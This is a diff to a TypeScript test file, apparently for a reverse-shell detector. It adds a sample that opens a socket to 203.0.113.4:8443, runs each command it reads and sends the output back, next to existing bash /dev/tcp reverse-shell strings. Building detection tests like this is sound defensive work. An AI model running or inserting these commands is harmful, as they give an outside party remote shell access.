@@ -27,6 +27,10 @@ const reverseShells: Array<[string, string]> = [
   ],
   ['hidden in sh -c', `sh -c 'bash -i >& /dev/tcp/203.0.113.4/9 0>&1'\n`],
   ['hidden in a variable', 'H=203.0.113.4; P=9\nbash -i >& "/dev/tcp/$H/$P" 0>&1\n'],
+  [
+    'each line read from the socket run, output sent back',
+    'exec 5<>/dev/tcp/203.0.113.4/8443\ncat <&5 | while read -r line; do\n  $line 2>&5 >&5\ndone\n',
+  ],
 ];
 
 describe('reverse shells', () => {
